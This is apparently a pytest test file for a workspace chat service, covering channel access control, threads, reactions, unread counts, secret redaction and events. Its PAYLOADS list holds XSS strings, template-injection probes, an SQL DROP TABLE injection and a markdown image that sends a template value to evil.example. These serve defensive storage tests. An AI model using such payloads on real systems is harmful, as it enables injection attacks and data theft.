"""Channels and messages: who sees what, what is kept, counted, named and found, on both databases."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from ionflux_core import limits
from ionflux_core.domain.chat import Message, StatusUpdate, is_emoji
from ionflux_core.errors import Conflict, Forbidden, Invalid, IonfluxError, LimitExceeded, NotFound
from ionflux_core.ids import now
from tests.agents_for_tests.chatting import Room
from tests.agents_for_tests.world import World, small_world, together, world

__all__ = ["small_world", "world"]


@pytest.fixture
def room(world: World) -> Room:
    """A room on both databases."""
    return Room(world)


def test_a_workspace_begins_with_two_channels_and_keeps_what_they_are_called(room: Room) -> None:
    assert [each.name for each in room.chat.channels(room.ws, user_id=room.me)] == ["alerts", "general"]
    room.chat.save_channel(room.ws, room.general.id, {"name": "Everyone", "description": "All of us"}, by=room.me)
    alerts = room.chat.ensure_channel(room.ws, "alerts")
    room.chat.set_channel_status(room.ws, alerts.id, "archived", by=room.me)
    (left,) = room.chat.channels(room.ws, user_id=room.me)
    assert (left.name, left.description) == ("Everyone", "All of us")
    assert len(room.chat.channels(room.ws, user_id=room.me, archived=True)) == 2
    with pytest.raises(Conflict, match="archived"):
        room.say("too late", alerts)
    assert room.chat.ensure_channel(room.ws, "alerts").id == alerts.id


def test_whoever_needs_a_channel_first_the_two_are_there(world: World) -> None:
    chat, owner = world.app.chat, world.app.workspaces.owner().id
    for begin in (
        lambda ws: chat.ensure_channel(ws, "alerts"),
        lambda ws: chat.ensure_channel(ws, "launch"),
        lambda ws: chat.create_channel(ws, {"name": "launch"}, by=owner),
    ):
        ws = world.app.workspaces.create(f"w {id(begin)}").id
        begin(ws)
        assert {"alerts", "general"} <= {each.name for each in chat.channels(ws, user_id=owner)}


def test_names_are_unique_and_plain(room: Room) -> None:
    room.chat.create_channel(room.ws, {"name": " Launch "}, by=room.me)
    for draft in ({"name": "Launch"}, {"name": "dm:x"}, {"name": ""}, {"name": "a\nb"}, {"name": "x" * 121}):
        with pytest.raises(IonfluxError):
            room.chat.create_channel(room.ws, draft, by=room.me)
    with pytest.raises(Conflict):
        room.chat.save_channel(room.ws, room.general.id, {"name": "Launch"}, by=room.me)
    assert room.chat.channel_named(room.ws, "Launch")


def test_members_and_agents_of_channels_must_be_there(room: Room) -> None:
    other = room.world.app.workspaces.create("Other").id
    stranger = room.person("Stranger", workspace_id=other)
    for draft in (
        {"name": "a", "type": "private", "members": [stranger]},
        {"name": "b", "type": "dm", "members": [room.person("A"), room.person("B")]},
        {"name": "c", "type": "agent_dedicated"},
        {"name": "d", "type": "agent_dedicated", "instance_id": "nobody"},
    ):
        with pytest.raises((Invalid, NotFound)):
            room.chat.create_channel(room.ws, draft, by=room.me)
    room.world.agent("helper", lambda ctx, inputs: {})
    instance = room.world.instance("helper")
    made = room.chat.create_channel(
        room.ws, {"name": "With helper", "type": "agent_dedicated", "instance_id": instance.id}, by=room.me
    )
    assert made.instance_id == instance.id


def test_the_direct_channel_of_two_people_is_one_and_named_after_the_other(room: Room) -> None:
    ana = room.person("Ana")
    first = room.chat.create_channel(room.ws, {"type": "dm", "members": [ana]}, by=room.me)
    again = room.chat.create_channel(room.ws, {"type": "dm", "members": [room.me]}, by=ana)
    assert first.id == again.id
    assert (first.name, again.name) == ("Ana", "Local owner")
    with pytest.raises(Conflict):
        room.chat.save_channel(room.ws, first.id, {"members": []}, by=ana)
    room.chat.save_channel(room.ws, first.id, {"description": "Us"}, by=ana)
    assert room.chat.channel(room.ws, first.id, ana).description == "Us"


@pytest.mark.parametrize("type", ["private", "dm"])
def test_what_is_said_behind_a_closed_door_is_nowhere_to_be_found(room: Room, type: str) -> None:
    ana, eve = room.person("Ana"), room.person("Eve")
    chat, ws = room.chat, room.ws
    draft = {"name": "Closed", "type": type, "members": [ana] if type == "dm" else [room.me, ana]}
    closed = chat.create_channel(ws, draft, by=room.me)
    said = room.say("the secret marigold", closed)
    answer = room.say("an answer", closed, thread_id=said.id)
    assert [each.id for each in chat.search(ws, "marigold", user_id=ana)] == [said.id]
    assert chat.unread(ws, ana) == 1
    sender = {"sender_id": eve, "sender_name": "Eve"}
    doors: list[Callable[[str, str], Any]] = [
        lambda ws, who: chat.channel(ws, closed.id, who),
        lambda ws, who: chat.save_channel(ws, closed.id, {"members": [who]}, by=who),
        lambda ws, who: chat.set_channel_status(ws, closed.id, "archived", by=who),
        lambda ws, who: chat.messages(ws, closed.id, user_id=who),
        lambda ws, who: chat.search(ws, "marigold", user_id=who, channel_id=closed.id),
        lambda ws, who: chat.post(ws, closed.id, text="hello", **{**sender, "sender_id": who}),
        lambda ws, who: chat.attach(ws, closed.id, "a.txt", b"a", "text/plain", **{**sender, "sender_id": who}),
        lambda ws, who: chat.mark_read(ws, closed.id, who, said.id),
        lambda ws, who: chat.read_marks(ws, closed.id, who),
        *(
            lambda ws, who, message=message, door=door: door(ws, message.id, who)  # type: ignore[misc]
            for message in (said, answer)
            for door in (
                chat.message,
                chat.thread,
                chat.around,
                chat.delete,
                chat.thread_to_page,
                lambda ws, id, who: chat.edit(ws, id, "changed", who),
                lambda ws, id, who: chat.react(ws, id, "👍", who),
                lambda ws, id, who: chat.press(ws, id, "approve", who),
                lambda ws, id, who: chat.file(ws, id, "0" * 64, who),
            )
        ),
    ]
    other = room.world.app.workspaces.create("Other").id
    for number, door in enumerate(doors):
        # Someone else of this workspace, and a member who asks through another workspace: the same answer.
        for where, who in ((ws, eve), (other, ana)):
            with pytest.raises(NotFound):
                pytest.fail(f"door {number} gave {door(where, who)}")
    assert closed.id not in {each.id for each in chat.channels(ws, user_id=eve, archived=True)}
    assert chat.search(ws, "marigold", user_id=eve) == [] == chat.search(other, "marigold", user_id=ana)
    assert chat.unread(ws, eve) == 0
    assert chat.message(ws, said.id, ana).content.text_body == "the secret marigold"
    assert chat.message(ws, said.id, ana).reactions == []


def test_unread_counts_what_others_said_up_to_a_hundred(room: Room) -> None:
    ana = room.person("Ana")
    mine, gone = room.say("mine"), room.agent_says("gone")
    assert room.chat.unread(room.ws, room.me) == 1
    assert room.chat.unread(room.ws, ana) == 2
    room.chat.delete(room.ws, gone.id, room.me)
    assert room.chat.unread(room.ws, ana) == 1
    room.chat.mark_read(room.ws, room.general.id, ana, mine.id)
    room.chat.mark_read(room.ws, room.general.id, ana, gone.id)
    room.chat.mark_read(room.ws, room.general.id, ana, mine.id)
    assert room.chat.unread(room.ws, ana) == 0
    for number in range(105):
        room.agent_says(f"line {number}", dedup_key=f"line {number}")
    channel = room.chat.channel(room.ws, room.general.id, ana)
    assert (channel.unread, channel.mentioned) == (100, False)
    room.say("@Ana look")
    assert room.chat.channel(room.ws, room.general.id, ana).mentioned
    assert room.chat.channel(room.ws, room.general.id, room.me).unread == 0, "who writes has read"
    with pytest.raises(NotFound):
        room.chat.mark_read(room.ws, room.general.id, ana, "ffffffff-ffff-7fff-bfff-ffffffffffff")


def test_reading_tells_the_screens_once(room: Room) -> None:
    told: list[str] = []
    listener = room.world.app.live.listen(room.ws, lambda: None)
    said = room.agent_says("news")
    told += listener.take()
    assert told == ["chat", f"chat:{room.general.id}"]
    room.chat.mark_read(room.ws, room.general.id, room.me, said.id)
    assert listener.take() == ["chat"]
    room.chat.mark_read(room.ws, room.general.id, room.me, said.id)
    assert listener.take() == [], "a screen that reads what it shows must not wake itself"


def test_messages_stand_in_their_order_and_answers_in_their_threads(room: Room) -> None:
    first, second = room.say("first"), room.say("second")
    answer = room.say("answer", thread_id=first.id)
    deeper = room.say("answer to the answer", thread_id=answer.id)
    assert room.shown() == ["first", "second"]
    thread = room.chat.thread(room.ws, answer.id, room.me)
    assert [each.id for each in thread] == [answer.id, deeper.id]
    root = room.chat.message(room.ws, first.id, room.me)
    assert (root.replies, root.last_reply_at) == (2, deeper.created_at)
    assert root.changed_at == deeper.created_at
    around = room.chat.around(room.ws, deeper.id, room.me)
    assert [each.id for each in around] == [first.id, second.id]
    alerts = room.chat.ensure_channel(room.ws, "alerts")
    with pytest.raises(NotFound):
        room.say("elsewhere", alerts, thread_id=first.id)


def test_changes_since_a_time_are_edits_reactions_answers_and_progress(room: Room) -> None:
    messages = [room.say(f"message {number}") for number in range(5)]
    status = StatusUpdate(run_id="r", agent="Sentinel", status="running")
    followed = room.agent_says(content={"status_update": status.model_dump()}, content_type="agent_status_update")
    since = now()
    assert room.chat.changes(room.ws, room.general.id, since) == []
    room.chat.edit(room.ws, messages[0].id, "edited", room.me)
    room.chat.react(room.ws, messages[1].id, "🎉", room.me)
    room.say("an answer", thread_id=messages[2].id)
    room.chat.update(room.ws, followed.id, {"status_update": status.model_copy(update={"status": "success"})})
    changed = [each.id for each in room.chat.changes(room.ws, room.general.id, since)]
    assert changed == [messages[0].id, messages[1].id, messages[2].id, followed.id]
    later = room.chat.changes(room.ws, room.general.id, since, first=messages[2].id)
    assert [each.id for each in later] == [messages[2].id, followed.id]
    assert room.chat.message(room.ws, followed.id, room.me).edited_at is None


def test_a_fact_is_told_once_however_often_it_is_posted(room: Room) -> None:
    first = room.agent_says("done", dedup_key="run:1:end")
    others = together(4, lambda _: room.agent_says("done again", dedup_key="run:1:end"))
    assert {each.id for each in others} == {first.id}
    apps = [room.world.app, room.world.application()]

    def posted(number: int) -> Message:
        return apps[number % 2].chat.post(
            room.ws, room.general.id, text="together", sender_type="system", sender_id="x", sender_name="x",
            dedup_key="run:2:end",
        )  # fmt: skip

    assert len({each.id for each in together(6, posted)}) == 1
    assert room.shown() == ["done", "together"]


def test_only_who_wrote_may_edit_and_only_they_or_an_owner_delete(room: Room) -> None:
    ana = room.person("Ana")
    mine = room.say("the original camellia")
    by_ana = room.say("from ana", sender_id=ana, sender_name="Ana")
    by_agent = room.agent_says("from an agent")
    for found, who in ((mine, ana), (by_ana, room.me), (by_agent, room.me)):
        with pytest.raises(Forbidden):
            room.chat.edit(room.ws, found.id, "changed", who)
    for found in (mine, by_agent):
        with pytest.raises(Forbidden):
            room.chat.delete(room.ws, found.id, ana)
    edited = room.chat.edit(room.ws, mine.id, "the peony for @Ana", room.me)
    assert edited.edited_at and [each.name for each in edited.mentions] == ["Ana"]
    assert room.chat.search(room.ws, "camellia", user_id=ana) == []
    assert [each.id for each in room.chat.search(room.ws, "peony", user_id=ana)] == [mine.id]
    for found, who in ((mine, room.me), (by_ana, ana), (by_agent, room.me)):
        gone = room.chat.delete(room.ws, found.id, who)
        assert gone.deleted_at and gone.content.text_body == "" and gone.mentions == []
    assert room.shown() == ["", "", ""]
    assert room.chat.search(room.ws, "peony", user_id=ana) == []
    assert room.world.rows("chat_texts") == []
    for change in (lambda: room.chat.edit(room.ws, mine.id, "back", room.me),
                   lambda: room.chat.react(room.ws, mine.id, "👍", room.me)):  # fmt: skip
        with pytest.raises(Conflict, match="deleted"):
            change()
    assert room.chat.update(room.ws, by_agent.id, {"text_body": "still here"}).content.text_body == ""


def test_reactions_come_and_go_and_none_is_lost(room: Room) -> None:
    said = room.say("look")
    people = [room.person(f"Person {number}") for number in range(6)]
    apps = [room.world.app, room.world.application()]
    answers = together(6, lambda number: apps[number % 2].chat.react(room.ws, said.id, "👍", people[number]))
    assert not [each for each in answers if isinstance(each, Exception)]
    (mark,) = room.chat.message(room.ws, said.id, room.me).reactions
    assert sorted(mark.user_ids) == sorted(people)
    for person in people[1:]:
        room.chat.react(room.ws, said.id, "👍", person)
    room.chat.react(room.ws, said.id, "❤️", people[0])
    (thumb, heart) = room.chat.message(room.ws, said.id, room.me).reactions
    assert (thumb.user_ids, heart.emoji) == ([people[0]], "❤️")
    assert [each.emoji for each in room.chat.react(room.ws, said.id, "👍", people[0]).reactions] == ["❤️"]
    for number in range(limits.REACTIONS_PER_MESSAGE - 1):
        room.chat.react(room.ws, said.id, chr(0x1F600 + number), room.me)
    with pytest.raises(LimitExceeded):
        room.chat.react(room.ws, said.id, "🚀", room.me)
    room.chat.react(room.ws, said.id, "❤️", room.me)
    with pytest.raises(Invalid):
        room.chat.react(room.ws, said.id, "<b>", room.me)


@pytest.mark.parametrize("text", ["👍", "👍🏽", "❤️", "👨‍👩‍👧‍👦", "🇵🇹", "1️⃣", "‼️", "🫠", "✔", "©", "🏳️‍🌈", "↔️"])
def test_one_emoji_is_an_emoji(text: str) -> None:
    assert is_emoji(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a",
        "<b>",
        "👍👍",
        "+1",
        "🇵",
        "👍a",
        "<",
        "\u200d",
        "👍\u200d",
        "1",
        "&",
        "🇵🇹🇵🇹",
        "\ufe0f",
        ":)",
        "日",
        "👍" * 9,
    ],
)
def test_anything_else_is_none(text: str) -> None:
    assert not is_emoji(text)


def test_a_text_that_is_too_long_is_refused_with_a_way_out(room: Room) -> None:
    with pytest.raises(LimitExceeded, match=r"1,000,000 characters; 20,000 fit.*as a file"):
        room.say("x" * 1_000_000)
    with pytest.raises(LimitExceeded):
        room.chat.post(room.ws, room.general.id, content={"json_payload": ["x" * 300_000]}, content_type="json_data",
                       sender_id=room.me, sender_name="me")  # fmt: skip
    for text in ("", " \n "):
        with pytest.raises(Invalid, match="empty"):
            room.say(text)
    with pytest.raises(Invalid):
        room.say("words", content_type="interactive_proposal")
    assert room.shown() == [] and room.world.events("ionflux.chat") == []
    assert len(room.say("x" * limits.MESSAGE_CHARS).content.text_body) == limits.MESSAGE_CHARS


def test_a_secret_is_not_said(room: Room) -> None:
    room.world.app.secrets.put(room.ws, "shop", "hunter2-hunter2", by="me")
    with pytest.raises(Invalid, match="stored secret"):
        room.say("the password is hunter2-hunter2")
    said = room.say("nothing")
    with pytest.raises(Invalid, match="stored secret"):
        room.chat.edit(room.ws, said.id, "hunter2-hunter2", room.me)
    by_agent = room.agent_says("it is hunter2-hunter2")
    room.chat.update(room.ws, by_agent.id, {"text_body": "really hunter2-hunter2", "json_payload": ["hunter2-hunter2"]})
    kept = room.chat.message(room.ws, by_agent.id, room.me).content
    assert "hunter2" not in kept.model_dump_json() and kept.text_body == "really [redacted]"
    assert room.chat.search(room.ws, "hunter2", user_id=room.me) == []


PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q={{ blocks.kpi.output }})",
    "{{ 7*7 }} ${7*7} {% raw %} <%= 7*7 %>",
    "<svg/onload=alert(1)>\u202e\u0000",
    "'; DROP TABLE chat_messages; --",
    "\U0001f600 \ud83d".encode("utf-8", "replace").decode(),
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_said_is_kept_to_the_letter(small_world: World, payload: str) -> None:
    room = Room(small_world)
    said = room.say(f"a {payload}", sender_name=payload)
    channel = room.chat.create_channel(room.ws, {"name": f"c {payload.replace(chr(0), '')}"[:120]}, by=room.me) if (
        payload.isprintable()
    ) else None  # fmt: skip
    found = room.chat.message(room.ws, said.id, room.me)
    assert (found.content.text_body, found.sender_name) == (f"a {payload}", payload)
    assert channel is None or channel.name == f"c {payload}"


def test_events_tell_that_something_was_said_and_not_what(room: Room) -> None:
    ana, eve = room.person("Ana"), room.person("Eve")
    closed = room.chat.create_channel(room.ws, {"name": "Closed", "type": "private", "members": [ana]}, by=room.me)
    said = room.say("a word for @Ana and @Eve", closed)
    room.agent_says("an answer", run_id="a-run")
    ((type, told), (_, by_agent)) = room.world.events("ionflux.chat")
    assert type == "ionflux.chat.message.posted"
    assert told["message_id"] == said.id and told["channel_id"] == closed.id and told["sender_id"] == room.me
    assert told["mentions"] == [{"kind": "user", "id": ana}], "who may not see it is not told of it"
    assert {each.id for each in said.mentions} == {ana, eve}
    assert "word" not in str(told) and by_agent["sender_type"] == "agent"
    assert room.world.rows("events", causation_run_id="a-run")


def test_people_hear_what_was_said_after_it_is_stored(room: Room) -> None:
    heard: list[str] = []
    room.chat.said = lambda message: heard.append(room.chat.message(room.ws, message.id, room.me).content.text_body)
    room.say("once", dedup_key="k")
    room.say("twice", dedup_key="k")
    room.agent_says("from an agent")
    assert heard == ["once"]


def test_a_name_is_found_by_its_beginning(room: Room) -> None:
    app = room.world.app
    room.person("Ana Prado")
    app.workspaces.add_brand(room.ws, {"name": "Aurora"})
    app.workspaces.add_creator(room.ws, {"name": "Mila Aurel"})
    app.canvas.create(room.ws, "Autumn plan")
    room.world.agent("helper", lambda ctx, inputs: {})
    room.world.instance("helper", "Auditor")
    found = [(each.kind, each.name) for each in room.chat.mentionable(room.ws, "au")]
    assert found == [("agent", "Auditor"), ("page", "Autumn plan"), ("brand", "Aurora"), ("creator", "Mila Aurel")]
    said = room.say('Ask @auditor, see @"Autumn Plan" for @Aurora, @ana prado. not@auditor, @audi')
    assert [each.name for each in said.mentions] == ["Auditor", "Autumn plan", "Aurora", "Ana Prado"]
    other = app.workspaces.create("Other").id
    assert [each.kind for each in room.chat.mentionable(other, "")] == ["user"]


def test_a_workspace_takes_its_chat_along_when_it_goes(room: Room) -> None:
    from ionflux_core.storage import workspaces

    said = room.say("gone with it")
    room.say("an answer", thread_id=said.id)
    room.chat.mark_read(room.ws, room.general.id, room.me, said.id)
    room.world.app.db.write(lambda connection: workspaces.remove(connection, room.ws))
    for table in ("chat_channels", "chat_messages", "chat_reads", "chat_texts"):
        assert room.world.rows(table) == [], table
